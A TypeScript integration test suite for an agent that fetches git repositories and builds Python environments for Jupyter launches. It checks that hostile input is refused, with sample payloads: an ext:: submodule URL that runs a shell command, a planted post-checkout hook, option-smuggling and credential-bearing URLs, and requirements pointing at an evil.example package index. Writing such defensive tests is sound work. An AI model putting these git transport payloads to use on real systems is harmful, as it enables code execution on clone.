// The agent's `prepare` for real: Debian's git against a git http-backend server on loopback,
// Debian's Python venv and pip against a wheelhouse the test writes, jupyter_client starting the
// registered kernel. Run as the throw-away account gyrelaunch1 when the tests run as root (the
// agent always runs as the end user), fed on stdin like the spawners will feed it.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, readdirSync, statSync, writeFileSync, rmSync, chownSync } from "node:fs";
import { join } from "node:path";
import { execa } from "execa";
import { loadAgentZip } from "./agent-bundle";
import { buildPrepareSpec } from "./agent-spec";
import { launchConfigSchema } from "@/config/launch-section";
import { startGitHttpServer, type GitHttpServer } from "@/app/_lib/launch/testing/git-http-server";
import { git, makeRepo, type TestRepo } from "@/app/_lib/launch/testing/git-repos";
import { accountDir, lastOf, PYTHON, runAgent, testAccount, type TestAccount } from "./testing/run-agent";
import { writeWheel } from "@/app/_lib/launch/testing/wheelhouse";

const isRoot = process.getuid?.() === 0;
let account: TestAccount;
let work: string;
let srvRoot: string;
let srv: GitHttpServer;
let slowSrv: GitHttpServer;
let wheels: string;
let demo: TestRepo;
let c1: string;
let c2: string;
const timings: Record<string, number> = {};

before(async () => {
  account = await testAccount("gyrelaunch1");
  work = accountDir(account, "gyre-prepare-");
  srvRoot = join(work, "srv");
  mkdirSync(srvRoot);
  wheels = join(work, "wheels");
  writeWheel(wheels, "gyredemo", "1.0", "VALUE = 42\n");
  if (isRoot) await execa("chown", ["-R", `${account.uid}:${account.gid}`, wheels]);
  demo = makeRepo(srvRoot, "org/demo", { "README.md": "first\n", "notebooks/a.ipynb": "{}\n" });
  c1 = demo.head();
  c2 = demo.commit({ "later.txt": "only in the second commit\n" });
  srv = await startGitHttpServer({ root: srvRoot });
  slowSrv = await startGitHttpServer({ root: srvRoot, delayPackMs: 5000 });
});

after(async () => {
  await srv?.close();
  await slowSrv?.close();
  rmSync(work, { recursive: true, force: true });
  console.log(`# prepare timings, ms: ${JSON.stringify(timings)}`);
});

/** HEAD of a checkout the test account owns (git refuses other owners' repositories otherwise) */
const headOf = (dir: string) => git(dir, ["-c", "safe.directory=*", "rev-parse", "HEAD"]);

const config = (over: object = {}) => launchConfigSchema.parse({ git: { fetchTimeoutSeconds: 60 }, ...over });

function prepareSpec(o: { repo?: string; commit: string; ref?: string; target: string; server?: GitHttpServer; env?: object; git?: object }) {
  const c = config({
    environment: { cacheDir: join(work, "envs"), wheelhouse: wheels, basePython: PYTHON, ...o.env },
    git: { fetchTimeoutSeconds: 60, ...o.git },
  });
  return buildPrepareSpec({
    repoUrl: `${(o.server ?? srv).url}/${o.repo ?? "org/demo"}.git`,
    commit: o.commit,
    ref: o.ref ?? "main",
    targetDir: o.target,
    allowHttp: true,
    platform: "local",
    config: c,
  });
}

test("fetches the exact commit (not the branch tip) into the per-launch folder, as the user; a second run reuses the folder", async () => {
  const target = join(work, "launches", "demo-c1");
  const run = await runAgent({ account, dir: work, command: "prepare", spec: prepareSpec({ commit: c1, target }) });
  assert.equal(run.exitCode, 0, run.text.join("\n"));
  timings.fetchSmallRepo = Math.round(run.ms);
  assert.equal(headOf(target), c1);
  assert.ok(existsSync(join(target, "notebooks", "a.ipynb")));
  assert.ok(!existsSync(join(target, "later.txt")), "the branch tip is not what was asked for");
  assert.equal(statSync(join(target, "README.md")).uid, account.uid);
  const fetched = lastOf(run, "fetched")!;
  assert.deepEqual([fetched.commit, fetched.reused, fetched.dir], [c1, false, target]);
  const prepared = lastOf(run, "prepared")!;
  assert.deepEqual(prepared.result, { dir: target, commit: c1, environment: null, serverEnv: {} });
  assert.ok(run.events.some((e) => e.phase === "built" && e.cached && /No environment files/.test(e.message)));

  writeFileSync(join(target, "README.md"), "my edit\n");
  const again = await runAgent({ account, dir: work, command: "prepare", spec: prepareSpec({ commit: c1, target }) });
  assert.equal(again.exitCode, 0);
  assert.equal(lastOf(again, "fetched")!.reused, true);
  assert.equal(readFileSync(join(target, "README.md"), "utf8"), "my edit\n", "the user's edit is kept");
  timings.reuseFolder = Math.round(again.ms);
  // an unknown commit fails with a reason, and leaves no folder behind
  const missing = join(work, "launches", "demo-missing");
  const bad = await runAgent({ account, dir: work, command: "prepare", spec: prepareSpec({ commit: "0".repeat(40), ref: "0".repeat(40), target: missing }) });
  assert.equal(bad.exitCode, 1);
  assert.equal(lastOf(bad, "failed")!.reason, "commit-not-found");
  assert.ok(!existsSync(missing));
});

test("runs as `python3 -m gyre_agent` with PYTHONPATH at a zip of the package too", async () => {
  const zip = join(work, "agent.zip");
  writeFileSync(zip, await loadAgentZip(), { mode: 0o644 });
  const r = await execa(PYTHON, ["-m", "gyre_agent", "version"], { env: { PATH: "/usr/bin:/bin", PYTHONPATH: zip }, extendEnv: false });
  assert.equal(r.stdout.trim(), "1");
});

test("hostile repository and URLs: no hook, no ext:: or file:// transport runs, even when the user's git config asks for them", async () => {
  const proof = join(work, "proof");
  mkdirSync(proof, { recursive: true });
  if (isRoot) chownSync(proof, account.uid, account.gid);
  // a repository whose .gitmodules points at ext:: and file:// "submodules"
  const hostile = makeRepo(srvRoot, "org/hostile", {
    ".gitmodules": `[submodule "a"]\n\tpath = a\n\turl = ext::sh -c touch% ${proof}/ext-ran\n[submodule "b"]\n\tpath = b\n\turl = file://${demo.bare}\n`,
    "README.md": "hostile\n",
  });
  git(hostile.work, ["update-index", "--add", "--cacheinfo", `160000,${c1},a`]);
  git(hostile.work, ["update-index", "--add", "--cacheinfo", `160000,${c1},b`]);
  git(hostile.work, ["commit", "-q", "-m", "submodules"]);
  git(hostile.work, ["push", "-q", "origin", "HEAD"]);
  const commit = hostile.head();
  // the user's own git config turns everything dangerous on
  const hooks = join(account.home, "evil-hooks");
  mkdirSync(hooks, { recursive: true });
  writeFileSync(join(hooks, "post-checkout"), `#!/bin/sh\ntouch ${proof}/hook-ran\n`, { mode: 0o755 });
  writeFileSync(
    join(account.home, ".gitconfig"),
    `[core]\n\thooksPath = ${hooks}\n[protocol]\n\tallow = always\n[submodule]\n\trecurse = true\n[fetch]\n\trecurseSubmodules = true\n`,
  );
  if (isRoot) await execa("chown", ["-R", `${account.uid}:${account.gid}`, hooks, join(account.home, ".gitconfig")]);
  try {
    // the same git, used plainly, does run the hook: the proof files can appear
    const plain = join(work, "plain-clone");
    await execa(
      "/usr/bin/setpriv",
      isRoot
        ? ["--reuid", String(account.uid), "--regid", String(account.gid), "--init-groups", "--", "git", "clone", "-q", `${srv.url}/org/hostile.git`, plain]
        : ["git", "clone", "-q", `${srv.url}/org/hostile.git`, plain],
      { env: { PATH: "/usr/bin:/bin", HOME: account.home }, extendEnv: false, reject: false, cwd: work },
    );
    assert.ok(existsSync(join(proof, "hook-ran")), "control: a plain clone runs the user's post-checkout hook");
    rmSync(join(proof, "hook-ran"));

    const target = join(work, "launches", "hostile");
    const run = await runAgent({ account, dir: work, command: "prepare", spec: prepareSpec({ repo: "org/hostile", commit, target }) });
    assert.equal(run.exitCode, 0, run.text.join("\n"));
    assert.equal(headOf(target), commit);
    assert.ok(!existsSync(join(proof, "hook-ran")), "no hook ran");
    assert.ok(!existsSync(join(proof, "ext-ran")), "no ext:: command ran");
    assert.equal(existsSync(join(target, "a", "README.md")) || existsSync(join(target, "b", "README.md")), false, "no submodule was fetched");

    // URLs that name other transports or carry credentials are refused before git runs
    const before = srv.requests.length;
    for (const [url, why] of [
      [`ext::sh -c touch% ${proof}/ext-url-ran`, /spaces or control characters/],
      [`ext::touch%${proof}/ext-url-ran`, /remote helper/],
      [`file://${demo.bare}`, /must use https or http/],
      [`${srv.url.replace("http://", "http://user:pw@")}/org/demo.git`, /credentials/],
      [`-u${srv.url}/org/demo.git`, /may not start with '-'/],
      [`${srv.url.replace("http://", "ssh://")}/org/demo.git`, /must use https or http/],
    ] as const) {
      const spec = { ...prepareSpec({ commit: c1, target: join(work, "launches", "refused") }), repo: { url, commit: c1, ref: "main" } };
      const r = await runAgent({ account, dir: work, command: "prepare", spec });
      assert.equal(r.exitCode, 1, url);
      const failed = lastOf(r, "failed")!;
      assert.equal(failed.reason, "url-refused", url);
      assert.match(failed.message, why, url);
    }
    assert.equal(srv.requests.length, before);
    assert.ok(!existsSync(join(proof, "ext-url-ran")));
    // and plain http is refused unless the hub allowed it for that host
    const noHttp = {
      ...prepareSpec({ commit: c1, target: join(work, "launches", "refused") }),
      git: { allowHttp: false, depth: 1, timeoutSeconds: 60, maxBytes: 1e9 },
    };
    const r = await runAgent({ account, dir: work, command: "prepare", spec: noHttp });
    assert.match(lastOf(r, "failed")!.message, /must use https; http URLs are not allowed/);
  } finally {
    rmSync(join(account.home, ".gitconfig"), { force: true });
    rmSync(hooks, { recursive: true, force: true });
  }
});

test("size and time limits stop git with a message saying which, and leave no folder", async () => {
  const big = makeRepo(srvRoot, "org/big", { "data.bin": randomBytes(3_000_000) });
  const target = join(work, "launches", "big");
  const tooBig = await runAgent({
    account,
    dir: work,
    command: "prepare",
    spec: prepareSpec({ repo: "org/big", commit: big.head(), target, git: { maxRepoBytes: 1_000_000 } }),
  });
  assert.equal(tooBig.exitCode, 1);
  const f = lastOf(tooBig, "failed")!;
  assert.equal(f.reason, "git-too-large");
  assert.match(f.message, /larger than the limit of 1\.0 MB set by the administrator/);
  assert.ok(!existsSync(target));

  const t0 = performance.now();
  const slow = await runAgent({
    account,
    dir: work,
    command: "prepare",
    spec: prepareSpec({ commit: c2, target: join(work, "launches", "slow"), server: slowSrv, git: { fetchTimeoutSeconds: 1.5 } }),
  });
  const ms = performance.now() - t0;
  assert.equal(slow.exitCode, 1);
  const s = lastOf(slow, "failed")!;
  assert.equal(s.reason, "git-timeout");
  assert.match(s.message, /took longer than 1 seconds|took longer than 1\.5 seconds/);
  assert.ok(ms < 4500, `stopped after ${Math.round(ms)} ms, before the server answered`);
  assert.ok(!existsSync(join(work, "launches", "slow")));
});

const KERNEL_IMPORT_PY = String.raw`
import json, sys
from jupyter_client.kernelspec import KernelSpecManager
from jupyter_client.manager import start_new_kernel
spec = KernelSpecManager().get_kernel_spec("python3")
km, kc = start_new_kernel(kernel_name="python3")
try:
    msg_id = kc.execute("import gyredemo, sys; print(gyredemo.VALUE, sys.prefix)")
    out = []
    while True:
        m = kc.get_iopub_msg(timeout=60)
        if m["parent_header"].get("msg_id") != msg_id:
            continue
        if m["msg_type"] == "stream":
            out.append(m["content"]["text"])
        elif m["msg_type"] == "error":
            out.append("ERROR " + m["content"]["ename"] + ": " + m["content"]["evalue"])
        elif m["msg_type"] == "status" and m["content"]["execution_state"] == "idle":
            break
    print(json.dumps({"argv0": spec.argv[0], "display": spec.display_name, "output": "".join(out)}))
finally:
    kc.stop_channels()
    km.shutdown_kernel(now=True)
`;

test("requirements.txt: a venv from the wheelhouse whose kernel imports the package; the second prepare builds nothing", async () => {
  const req = makeRepo(srvRoot, "org/req", { "requirements.txt": "gyredemo==1.0\n", "index.ipynb": "{}\n" });
  const commit = req.head();
  const target = join(work, "launches", "req");
  // the build's temporary files go to the user's TMPDIR: a directory of the test's, to see what is left
  const userTmp = join(work, "tmp");
  mkdirSync(userTmp);
  if (isRoot) chownSync(userTmp, account.uid, account.gid);
  const first = await runAgent({ account, dir: work, command: "prepare", spec: prepareSpec({ repo: "org/req", commit, target }), env: { TMPDIR: userTmp } });
  assert.equal(first.exitCode, 0, JSON.stringify(first.events.slice(-3)) + first.text.join("\n"));
  assert.deepEqual(readdirSync(userTmp), [], "the build leaves nothing in the user's TMPDIR (ipykernel's install left tmp…_kernels)");
  timings.firstPrepareWithVenv = Math.round(first.ms);
  const built = lastOf(first, "built")!;
  assert.equal(built.cached, false);
  const env = lastOf(first, "prepared")!.result.environment!;
  assert.equal(env.kind, "venv");
  assert.equal(env.kernelName, "python3");
  assert.equal(statSync(env.prefix).uid, account.uid);
  const kernelJson = JSON.parse(readFileSync(join(env.jupyterPath, "kernels", "python3", "kernel.json"), "utf8")) as {
    argv: string[];
    env: Record<string, string>;
  };
  assert.equal(kernelJson.argv[0], env.python);
  assert.equal(kernelJson.env.PATH, `${env.prefix}/bin:\${PATH}`);
  assert.ok(
    first.events.some((e) => e.phase === "building" && /Successfully installed gyredemo-1.0/.test(e.message)),
    "the build log reaches the launch page",
  );

  // the server's kernel: found first on JUPYTER_PATH, started by jupyter_client, imports the package
  const r = await execa(
    isRoot ? "/usr/bin/setpriv" : PYTHON,
    isRoot ? ["--reuid", String(account.uid), "--regid", String(account.gid), "--init-groups", "--", PYTHON, "-c", KERNEL_IMPORT_PY] : ["-c", KERNEL_IMPORT_PY],
    {
      env: { PATH: "/usr/local/bin:/usr/bin:/bin", HOME: account.home, JUPYTER_PATH: env.jupyterPath, JUPYTER_RUNTIME_DIR: join(work, "runtime") },
      extendEnv: false,
      cwd: target,
      timeout: 120_000,
    },
  );
  const kernel = JSON.parse(r.stdout.trim().split("\n").pop()!) as { argv0: string; display: string; output: string };
  assert.equal(kernel.argv0, env.python);
  assert.equal(kernel.display, "Python 3 (req)");
  assert.equal(kernel.output.trim(), `42 ${env.prefix}`);

  // second launch of the same environment (another commit, another folder): nothing is built
  const marker = readFileSync(join(env.prefix, "gyre-env.json"), "utf8");
  const commit2 = req.commit({ "more.ipynb": "{}\n" });
  const second = await runAgent({
    account,
    dir: work,
    command: "prepare",
    spec: prepareSpec({ repo: "org/req", commit: commit2, target: join(work, "launches", "req2") }),
  });
  assert.equal(second.exitCode, 0);
  const cached = lastOf(second, "built")!;
  assert.equal(cached.cached, true);
  assert.match(cached.message, /Environment cached/);
  assert.ok(!second.events.some((e) => e.phase === "building"), "no build step ran");
  assert.equal(readFileSync(join(env.prefix, "gyre-env.json"), "utf8"), marker, "the cache entry is untouched");
  assert.equal(lastOf(second, "prepared")!.result.environment!.prefix, env.prefix);
  timings.secondPrepareCachedEnv = Math.round(second.ms);
  timings.environmentStepCachedMs = Math.round((cached.seconds ?? 0) * 1000);
  timings.environmentStepBuiltMs = Math.round((built.seconds ?? 0) * 1000);
});

test("two launches of the same environment at once build it once", async () => {
  const a = makeRepo(srvRoot, "org/conc-a", { "requirements.txt": "gyredemo==1.0\n# concurrency\n" });
  const b = makeRepo(srvRoot, "org/conc-b", { "requirements.txt": "gyredemo==1.0\n# concurrency\n", "other.txt": "b\n" });
  const [ra, rb] = await Promise.all([
    runAgent({ account, dir: work, command: "prepare", spec: prepareSpec({ repo: "org/conc-a", commit: a.head(), target: join(work, "launches", "conc-a") }) }),
    runAgent({ account, dir: work, command: "prepare", spec: prepareSpec({ repo: "org/conc-b", commit: b.head(), target: join(work, "launches", "conc-b") }) }),
  ]);
  assert.deepEqual([ra.exitCode, rb.exitCode], [0, 0]);
  const builds = [lastOf(ra, "built")!, lastOf(rb, "built")!];
  assert.deepEqual(builds.map((x) => x.cached).sort(), [false, true], JSON.stringify(builds));
  assert.equal(lastOf(ra, "prepared")!.result.environment!.prefix, lastOf(rb, "prepared")!.result.environment!.prefix);
  const waited = [ra, rb].find((r) => lastOf(r, "built")!.cached)!;
  assert.ok(
    waited.events.some((e) => e.phase === "building" && /Another launch is building the same environment/.test(e.message)) ||
      /cached/.test(lastOf(waited, "built")!.message),
  );
});

test("a failing build ends with the reason and the log tail, and leaves no cache entry", async () => {
  const broken = makeRepo(srvRoot, "org/broken", { "requirements.txt": "gyredemo==1.0\nnosuchpackage==9.9\n" });
  const run = await runAgent({
    account,
    dir: work,
    command: "prepare",
    spec: prepareSpec({ repo: "org/broken", commit: broken.head(), target: join(work, "launches", "broken") }),
  });
  assert.equal(run.exitCode, 1);
  const f = lastOf(run, "failed")!;
  assert.equal(f.reason, "env-build-failed");
  assert.match(f.message, /Installing requirements\.txt failed \(exit 1\)/);
  assert.match(f.logTail ?? "", /No matching distribution found for nosuchpackage==9\.9/);
  const entries = (await execa("ls", [join(work, "envs")])).stdout.split("\n").filter((n) => /^[0-9a-f]{32}$/.test(n));
  for (const e of entries) assert.ok(existsSync(join(work, "envs", e, "gyre-env.json")), `no half-built entry (${e})`);
  // a retry builds again (nothing cached from the failure) and fails the same way
  const again = await runAgent({
    account,
    dir: work,
    command: "prepare",
    spec: prepareSpec({ repo: "org/broken", commit: broken.head(), target: join(work, "launches", "broken") }),
  });
  assert.equal(lastOf(again, "failed")!.reason, "env-build-failed");
});

test("what the admin has not allowed is refused with a reason: index options, URL requirements, apt.txt, postBuild", async () => {
  const cases: [string, Record<string, string>, object, RegExp][] = [
    ["org/idx", { "requirements.txt": "--index-url https://evil.example/simple\ngyredemo\n" }, {}, /'--index-url' is not allowed/],
    ["org/vcs", { "requirements.txt": "git+https://evil.example/x.git#egg=x\n" }, {}, /installs from a URL or version control/],
    [
      "org/inc",
      { "binder/requirements.txt": "-r extra.txt\n", "binder/extra.txt": "--extra-index-url https://evil.example\n" },
      {},
      /binder\/extra\.txt: '--extra-index-url' is not allowed/,
    ],
    ["org/apt", { "apt.txt": "graphviz\n", "requirements.txt": "gyredemo\n" }, {}, /needs system packages \(apt\.txt\).*ignoreAptTxt/],
    ["org/both", { "binder/requirements.txt": "gyredemo\n", ".binder/requirements.txt": "gyredemo\n" }, {}, /both a binder\/ and a \.binder\/ folder/],
    ["org/conda", { "environment.yml": "dependencies: [python]\n" }, {}, /environment\.yml, which needs conda; this hub builds venvs/],
    [
      "org/mamba",
      { "environment.yml": "dependencies: [python]\n" },
      { builder: "conda", condaCommand: "gyre-no-such-mamba" },
      /builds environment\.yml with gyre-no-such-mamba, but it is not installed/,
    ],
  ];
  for (const [name, files, env, why] of cases) {
    const repo = makeRepo(srvRoot, name, files);
    const run = await runAgent({
      account,
      dir: work,
      command: "prepare",
      spec: prepareSpec({ repo: name, commit: repo.head(), target: join(work, "launches", name.replace("/", "-")), env }),
    });
    assert.equal(run.exitCode, 1, name);
    assert.match(lastOf(run, "failed")!.message, why, name);
  }
  // apt.txt ignored when the admin says so; postBuild skipped (with a warning) unless enabled, run when enabled
  const repo = makeRepo(srvRoot, "org/post", {
    "apt.txt": "graphviz\n",
    "requirements.txt": "gyredemo\n",
    postBuild: "#!/bin/sh\necho postbuild-ran > postbuild.out\n",
  });
  const skipped = await runAgent({
    account,
    dir: work,
    command: "prepare",
    spec: prepareSpec({ repo: "org/post", commit: repo.head(), target: join(work, "launches", "post1"), env: { ignoreAptTxt: true } }),
  });
  assert.equal(skipped.exitCode, 0, JSON.stringify(skipped.events.at(-1)));
  const warnings = skipped.events.filter((e) => e.phase === "warning").map((e) => e.message);
  assert.ok(warnings.some((w) => /apt\.txt was ignored/.test(w)) && warnings.some((w) => /postBuild was not run/.test(w)), warnings.join("\n"));
  assert.ok(!existsSync(join(work, "launches", "post1", "postbuild.out")));
  const ran = await runAgent({
    account,
    dir: work,
    command: "prepare",
    spec: prepareSpec({ repo: "org/post", commit: repo.head(), target: join(work, "launches", "post2"), env: { ignoreAptTxt: true, allowPostBuild: true } }),
  });
  assert.equal(ran.exitCode, 0, JSON.stringify(ran.events.at(-1)));
  assert.equal(readFileSync(join(work, "launches", "post2", "postbuild.out"), "utf8"), "postbuild-ran\n");
  assert.notEqual(
    lastOf(ran, "prepared")!.result.environment!.key,
    lastOf(skipped, "prepared")!.result.environment!.key,
    "postBuild is part of the cache key when it runs",
  );
});
